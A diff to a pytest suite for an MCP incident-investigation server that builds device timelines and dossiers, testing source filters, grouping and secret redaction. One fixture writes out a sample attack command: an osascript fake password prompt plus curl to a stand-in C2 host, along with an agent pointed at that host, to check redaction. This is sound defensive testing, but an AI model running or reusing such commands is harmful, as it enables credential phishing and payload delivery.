@@ -11,7 +11,8 @@ import pytest
 
 from iru_mcp.demo.world.story import STORY
 from iru_mcp.errors import NotFound, ServerFault, UsageError
-from iru_mcp.tools.investigate.events import Event, quoted, to_lines
+from iru_mcp.tools.investigate.event_texts import quoted
+from iru_mcp.tools.investigate.events import Event, to_lines
 from iru_mcp.tools.kit.catalogue import catalogue
 
 NOW = datetime(2026, 11, 20, 9, 30, tzinfo=UTC)
@@ -32,20 +33,131 @@ def place(found: dict[str, Any], *words: str) -> int:
 
 async def test_the_incident_is_told_newest_first_from_every_source(ask: Ask) -> None:
     found = await ask("get_timeline", device=SERIAL)
+    assert place(found, "Threat", STORY.threat_name, "not quarantined") == 2, "routine takes two lines"
     order = [
         place(found, "Threat", STORY.threat_name, "not quarantined"),
         place(found, "Behavior", STORY.command_host),
         place(found, "MDM command 'InstallProfile' failed"),
         place(found, "Local account created (hidden admin)", STORY.hidden_admin),
         place(found, "Launch item", STORY.launch_label, "label imitates Apple"),
+        place(found, "Full Disk Access allowed", STORY.app_bundle_id),
         place(found, "App without a developer's signature", STORY.app_name),
+        place(found, "Gatekeeper off"),
     ]
+    assert all(found["items"][index]["notable"] for index in order)
     assert order == sorted(order)
     times = [line["time"] for line in found["items"]]
     assert times == sorted(times, reverse=True)
     assert set(sources(found).values()) == {"ok"}
     assert found["complete"] is True
-    assert found["requests"] <= 13
+    assert found["requests"] <= 16
+
+
+async def test_only_what_stands_out_or_some_sources_can_be_asked_for_and_nothing_else_is_read(ask: Ask) -> None:
+    whole = await ask("get_timeline", device=SERIAL)
+    notable = await ask("get_timeline", device=SERIAL, include=["notable"])
+    assert notable["items"] == [line for line in whole["items"] if line.get("notable")]
+    some = await ask("get_timeline", device=SERIAL, include="threats, audit")
+    assert {line["source"] for line in some["items"]} == {"threats", "audit"}
+    assert set(sources(some)) == {"device", "threats", "audit"}
+    assert some["requests"] < whole["requests"] - 8
+    less = await ask("get_timeline", device=SERIAL, exclude=["activity", "device"])
+    assert not {"activity", "device"} & {line["source"] for line in less["items"]}
+    with pytest.raises(UsageError, match="no source 'apps_installed'"):
+        await ask("get_timeline", device=SERIAL, include=["apps_installed"])
+
+
+async def test_routine_of_a_kind_is_one_line_whatever_stands_between(ask: Ask) -> None:
+    found = await ask("get_timeline", device=SERIAL, since="60d")
+    completed = found["items"][place(found, "MDM commands completed")]
+    assert completed["count"] > 30
+    assert len(found["items"]) < 30
+    cves = found["items"][place(found, "CVEs first seen")]
+    assert cves["text"].startswith(f"CVEs first seen: {STORY.cve_id} (critical) in '{STORY.browser_name}")
+
+
+async def test_a_protection_that_is_off_without_a_time_of_change_is_told_at_its_report(ask: Ask) -> None:
+    def off(body: Any, url: httpx.URL) -> Any:
+        if url.path.endswith(("/application_firewall", "/filevault")):
+            for row in body["data"]:
+                row.update(status=False, last_changed_at=None)
+        return body
+
+    found = await ask("get_timeline", device=SERIAL, change=off)
+    for name in ("Firewall", "FileVault"):
+        line = found["items"][place(found, f"{name} is off as last reported; Iru does not say since when")]
+        assert "notable" not in line
+
+
+async def test_secrets_in_an_audit_event_are_known_by_their_keys_before_a_sentence_is_made(ask: Ask) -> None:
+    hidden = {
+        "script": "echo plain words of a script",
+        "profile_body": "words of a profile",
+        "mobileconfig": "words of a configuration",
+        "authorization": "words of a header",
+        "unlock_pin": 493817,
+        "recovery_codes": ["words-one", "words-two"],
+    }
+
+    def leaking(body: Any, url: httpx.URL) -> Any:
+        if url.path.endswith("/audit/events"):
+            for event in body["results"]:
+                event["new_state"] = {"name": "Kept", **hidden}
+                event["target_id"] = STORY.patient_zero_device_id
+        return body
+
+    for tool in ("get_timeline", "get_device_dossier"):
+        text = str(await ask(tool, device=SERIAL, change=leaking))
+        assert "Kept" in text
+        assert not [word for word in ("plain words", "words of a", "493817", "words-one") if word in text], tool
+
+
+async def test_a_command_line_keeps_what_it_calls_and_loses_only_its_secrets(ask: Ask) -> None:
+    line = (
+        'osascript -e display dialog "macOS needs your password"; curl https://c2.evil.example/s?token=1&x=2 -o /tmp/.u'
+    )
+    arguments = ["/opt/agent/bin/agentd", "--host", "c2.evil.example", "--token", "9f8e7d6c5b4a3f2e"]
+
+    def evil(body: Any, url: httpx.URL) -> Any:
+        if url.path.endswith("/behavioral-detections"):
+            for row in body["results"]:
+                row["target_process"]["command_line"] = line
+        if url.path.endswith("/launch_agents_and_daemons"):
+            for row in body["data"]:
+                row.update(path="/Library/LaunchDaemons/com.apple.x.plist", program=None, program_arguments=arguments)
+        return body
+
+    for tool in ("get_timeline", "get_device_dossier"):
+        text = str(await ask(tool, device=SERIAL, change=evil, since="900d"))
+        assert "osascript -e display dialog" in text, tool
+        assert "https://c2.evil.example/s" in text, tool
+        assert "/opt/agent/bin/agentd --host c2.evil.example --token" in text, tool
+        assert "9f8e7d6c5b4a3f2e" not in text, tool
+
+
+async def test_where_every_list_is_denied_the_devices_own_events_and_all_permissions_are_told(ask: Ask) -> None:
+    kept = {"LIST_DEVICES", "GET_DEVICE"}
+    denied = tuple(one.name for one in catalogue()["get_timeline"].optional if one.name not in kept)
+    found = await ask("get_timeline", device=STORY.patient_zero_device_id, denied=denied, since="900d")
+    assert {line["source"] for line in found["items"]} == {"device"}
+    assert found["complete"] is False
+    states = sources(found)
+    assert states["activity"] == 'not permitted: "Device Activity"'
+    assert all("not permitted" in state for name, state in states.items() if name != "device")
+
+
+async def test_an_audit_log_that_begins_after_the_time_asked_for_is_said_to(ask: Ask) -> None:
+    found = await ask("get_timeline", device=SERIAL, since="2026-01-01", include=["audit"])
+    assert sources(found)["audit"].startswith("partial: the log begins at 2026-08-")
+    assert found["complete"] is False
+
+
+async def test_what_a_platform_does_not_report_is_not_none(ask: Ask) -> None:
+    listed = await ask("list_devices", platform="windows", limit=1)
+    found = await ask("get_timeline", device=listed["items"][0]["serial_number"])
+    assert sources(found)["apps"] == "not covered: Windows"
+    assert sources(found)["threats"] == "not covered: Windows"
+    assert found["complete"] is False
 
 
 async def test_a_command_that_two_sources_tell_of_is_told_once(ask: Ask) -> None:
@@ -148,8 +260,9 @@ async def test_a_source_that_fails_on_one_of_two_devices_says_on_which(ask: Ask)
 
 async def test_a_source_that_breaks_off_is_partial_and_what_was_read_is_told(ask: Ask) -> None:
     found = await ask("get_timeline", user=STORY.leaver_email, since="89d", broken=r"audit/events.*cursor=")
-    state = "partial: stopped after 500 rows: Iru failed with 500 on GET /api/v1/audit/events"
-    assert sources(found)["audit"] == state
+    state = "partial: stopped after 500 rows: Iru failed with 500 on GET /api/v1/audit/events, of 2026-10-"
+    assert sources(found)["audit"].startswith(state)
+    assert sources(found)["audit"].endswith("; go on with until or since")
     assert place(found, "view of device secrets") >= 0
     assert found["complete"] is False
 
